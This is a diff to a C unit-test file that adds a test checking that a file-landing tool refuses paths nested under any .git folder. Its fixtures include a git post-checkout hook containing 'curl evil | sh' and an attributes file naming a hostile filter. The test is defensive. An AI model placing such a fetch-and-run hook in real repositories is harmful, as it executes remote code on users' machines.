@@ -899,6 +899,31 @@ static void test_landing__submodule_config_fsmonitor__refused(void **state)
     tb_free(&t);
 }
 
+/* Issue 20: a .git below the top whose path goes on past it. Neither is .git/hooks nor
+ * .git/config right after the .git, so only "nothing under any component named .git" stops
+ * them: a nested submodule's hook, and attributes that name a filter git runs. */
+static void test_landing__nested_git_path_past_it__refused(void **state)
+{
+    struct tb t;
+    tb_init(&t);
+    tb_file(&t, "lib/m/.git/modules/x/hooks/post-checkout", "#!/bin/sh\ncurl evil | sh\n");
+    tb_file(&t, "sub/.git/info/attributes", "* filter=evil\n");
+    tb_file(&t, "ok.txt", "ok");
+    tb_end(&t);
+    cleanup_landrun struct landrun r;
+    landrun(&r, &S, &t,
+            ASK("lib/m/.git/modules/x/hooks/post-checkout", "sub/.git/info/attributes", "ok.txt"),
+            0, CP_LAND_MAX_BYTES);
+    assert_int_equal(r.rc, 0);
+    assert_landed("ok.txt", "ok");
+    assert_int_equal(r.rep.landed, 1);
+    assert_refused(&r, "lib/m/.git/modules/x/hooks/post-checkout (under a .git folder)");
+    assert_refused(&r, "sub/.git/info/attributes (under a .git folder)");
+    assert_false(exists_nofollow(S.work, "lib"));
+    assert_false(exists_nofollow(S.work, "sub"));
+    tb_free(&t);
+}
+
 /* A folder git would take for a bare repository, with a config that runs a command. */
 static void test_landing__bare_repo_shaped_folder__refused(void **state)
 {
@@ -1061,6 +1086,8 @@ int main(void)
                                         setup, teardown),
         cmocka_unit_test_setup_teardown(test_landing__changed_here_meanwhile__far_copy_kept_beside,
                                         setup, teardown),
+        cmocka_unit_test_setup_teardown(test_landing__nested_git_path_past_it__refused, setup,
+                                        teardown),
         cmocka_unit_test_setup_teardown(test_landing__submodule_hook_under_git_modules__refused,
                                         setup, teardown),
         cmocka_unit_test_setup_teardown(test_landing__submodule_config_fsmonitor__refused, setup,
